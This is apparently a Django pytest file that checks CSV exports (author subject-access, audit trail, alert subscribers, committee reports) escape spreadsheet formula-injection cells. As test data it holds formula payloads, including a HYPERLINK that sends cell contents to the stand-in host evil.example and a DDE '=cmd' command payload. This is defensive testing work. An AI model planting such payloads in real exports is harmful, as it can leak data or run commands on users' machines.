"""Every CSV export neutralises cells a spreadsheet would read as formulas (OWASP's rule: a cell
beginning with =, +, -, @, a tab or a carriage return is written as text, behind a single quote)."""
import csv
import io
from datetime import date

import pytest
from django.utils import timezone

from accounts.audit import audit_record
from accounts.models import Service
from accounts.roles import Role
from council_social.csv_export import safe_cell, to_text
from monitoring.models import Author, RawPayload
from monitoring.services import ingest_items
from publishing.models import AlertSubscriber, Topic
from reporting.models import ReportRun
from reporting.services import report_run_generate
from tests.monitoring.scripted import item

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=1+2", "+SUM(A1:A9)", "@SUM(A1:A9)", "-2+3",
           "\t=1+2", "\r=1+2"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_neutralised(text: str, attacks=ATTACKS):
    found = cells(text)
    for attack in attacks:
        assert f"'{attack}" in found, (attack, found)
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")], found


def test_the_writer_neutralises_formula_cells_and_leaves_the_rest():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", None, -2, 3.5, True)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", "", -2, 3.5, True]
    assert cells(to_text([["=1+2", -3]])) == ["'=1+2", "-3"]


def test_subject_access_export(staff, channels, client_for):
    raw = RawPayload.objects.create(channel=channels["libraries"], endpoint="mentions", body="{}")
    ingest_items(channel=channels["libraries"], raw=raw,
                 items=[item(n, author="=cmd|' /C calc'!A0", text=attack) for n, attack in enumerate(ATTACKS, 1)])
    author = Author.objects.get(external_id="=cmd|' /C calc'!A0")
    text = client_for(staff[Role.WEB_TEAM]).get(f"/authors/{author.pk}/export.csv").content.decode()
    assert_neutralised(text, [*ATTACKS, "=cmd|' /C calc'!A0"])


def test_audit_trail_export(staff, client_for):
    for attack in ATTACKS:
        audit_record(actor=staff[Role.WEB_TEAM], action="channel.update", obj=staff[Role.WEB_TEAM], note=attack)
    response = client_for(staff[Role.WEB_TEAM]).get("/audit/?format=csv")
    assert_neutralised(b"".join(response.streaming_content).decode())


def test_alert_subscribers_export(staff, client_for):
    news = Topic.objects.get(slug="news")
    for n, attack in enumerate(["=1+2", "+SUM(A1)", "@SUM(A1)", "-2+3"]):
        AlertSubscriber.objects.create(email=f"{attack}{n}@example.org", confirmed_at=timezone.now()).topics.add(news)
    text = client_for(staff[Role.WEB_TEAM]).get("/alerts/subscribers/export.csv").content.decode()
    assert_neutralised(text, ["=1+20@example.org", "+SUM(A1)1@example.org", "@SUM(A1)2@example.org",
                              "-2+33@example.org"])


def test_committee_report_export(staff, channels):
    service = Service.objects.create(name='=HYPERLINK("http://evil.example","x")', slug="evil")
    run = ReportRun.objects.create(requested_by=staff[Role.COMMUNICATIONS_OFFICER], requested_by_name="Comms",
                                   service=service, period_start=date(2016, 4, 1), period_end=date(2016, 4, 30),
                                   compare_start=date(2015, 4, 1), compare_end=date(2015, 4, 30))
    run = report_run_generate(run_id=run.pk)
    assert run.state == ReportRun.State.DONE, run.error
    text = run.csv.open("rb").read().decode("utf-8-sig")
    assert_neutralised(text, ['=HYPERLINK("http://evil.example","x")'])
